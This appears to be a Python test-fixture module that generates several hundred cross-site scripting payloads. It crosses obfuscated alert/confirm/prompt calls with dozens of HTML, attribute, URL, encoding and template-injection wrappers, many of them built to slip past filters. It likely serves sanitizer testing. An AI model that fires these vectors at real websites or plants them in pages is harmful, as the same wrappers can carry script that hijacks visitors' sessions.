"""What makes a careless page run a script: forms of injection x ways of writing them."""

_CALLS = (
    "alert(1)", "confirm`1`", "(alert)(1)", "top['al'+'ert'](1)", "prompt?.(1)", "[1].map(alert)", "setTimeout`alert\\x281\\x29`", "window[/al/.source+/ert/.source](1)",
    "al\\u0065rt(1)", "Function('ale'+'rt(1)')()",
)  # fmt: skip
_FORMS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script>", "</title><script>{}</script>", "</textarea><script>{}</script>", "--><script>{}</script>",
    "]]><script>{}</script>", "<<script>{}//<</script>", "<script\n>{}</script\n>", "<svg><script>{}</script></svg>", "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", '"><img src=x onerror={}>', "'><img src=x onerror={}>", "<img/src=x/onerror={}>", "<svg onload={}>", "<svg/onload={}>",
    "<body onload={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<details open ontoggle={}>", "<video><source onerror={}></video>",
    "<audio src=x onerror={}>", "<marquee onstart={}>", "<iframe src=javascript:{}>", "<iframe srcdoc='<script>{}</script>'>", "<object data=javascript:{}>", "<embed src=javascript:{}>",
    "<a href=javascript:{} autofocus>x</a>", "<form action=javascript:{}><button>x</button></form>", "<base href=javascript:{}//>", "<link rel=stylesheet href=javascript:{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<style>@import 'javascript:{}';</style>", "<div style='background:url(javascript:{})'>", '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus x='", "javascript:{}", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "{{% {} %}}", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "%3Cscript%3E{}%3C/script%3E", "＜script＞{}＜/script＞", "<\u0000script>{}</script>".replace("\u0000", ""), "\u202e<script>{}</script>",
    "';{};//", '";{};//', "`;{};//", "</script><script>{}</script>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
)  # fmt: skip
PAYLOADS = tuple(form.format(call) for call in _CALLS for form in _FORMS)
